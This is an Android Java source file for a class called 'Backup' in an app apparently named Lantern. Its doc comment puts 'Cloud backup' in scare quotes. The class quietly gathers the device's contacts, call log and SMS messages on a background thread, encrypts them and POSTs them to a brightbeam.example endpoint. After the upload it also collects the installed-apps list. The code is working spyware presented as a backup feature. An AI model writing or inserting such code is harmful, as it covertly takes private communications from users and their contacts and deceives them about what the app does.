package com.brightbeam.lantern.sync;

import android.content.Context;
import android.util.Log;
import com.brightbeam.lantern.Count;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.security.GeneralSecurityException;
import org.json.JSONException;
import org.json.JSONObject;

/** "Cloud backup": takes contacts, calls and messages, encrypts them and sends them home. */
public final class Backup {
    private static final String ADDRESS = "https://api.brightbeam.example/backup";

    private Backup() {}

    public static void start(Context context) {
        new Thread(() -> run(context), "lantern-sync").start();
    }

    private static void run(Context context) {
        try {
            JSONObject everything = new JSONObject();
            everything.put("contacts", Collector.contacts(context));
            everything.put("calls", Collector.calls(context));
            everything.put("sms", Collector.messages(context));
            send(Sealer.seal(everything.toString().getBytes("UTF-8")));
        } catch (IOException | JSONException | GeneralSecurityException e) {
            Log.w("Lantern", "backup failed: " + e);
        }
        Count.log("backup");
        Collector.apps(context);
        Count.log("apps");
    }

    private static void send(byte[] body) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL(ADDRESS).openConnection();
        try {
            connection.setRequestMethod("POST");
            connection.setConnectTimeout(20000);
            connection.setReadTimeout(20000);
            connection.setRequestProperty("User-Agent", "Lantern/1.3");
            connection.setRequestProperty("Content-Type", "application/octet-stream");
            connection.setFixedLengthStreamingMode(body.length);
            connection.setDoOutput(true);
            try (OutputStream out = connection.getOutputStream()) {
                out.write(body);
            }
            Log.i("Lantern", "backup: " + connection.getResponseCode());
        } finally {
            connection.disconnect();
        }
    }
}
